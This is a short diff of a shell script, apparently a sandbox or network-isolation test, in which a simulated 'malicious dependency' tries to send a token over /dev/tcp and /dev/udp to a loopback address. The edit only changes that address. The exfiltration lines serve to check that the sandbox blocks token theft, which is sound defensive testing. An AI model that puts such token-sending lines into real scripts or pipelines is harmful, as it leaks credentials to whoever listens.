@@ -20,15 +20,15 @@ upload() {
 
 upload registry.pg.test
 
-echo "job: (malicious dependency) sending the token to 127.0.0.1:9999"
-if exec 4<>/dev/tcp/127.0.0.1/9999; then
+echo "job: (malicious dependency) sending the token to 127.0.66.6:9999"
+if exec 4<>/dev/tcp/127.0.66.6/9999; then
     printf 'token=%s' "$token" >&4
     exec 4>&-
     echo "job: token sent over TCP"
 else
     echo "job: TCP exfiltration blocked"
 fi
-if printf 'token=%s' "$token" >/dev/udp/127.0.0.1/9999; then
+if printf 'token=%s' "$token" >/dev/udp/127.0.66.6/9999; then
     echo "job: token sent over UDP"
 else
     echo "job: UDP exfiltration blocked"
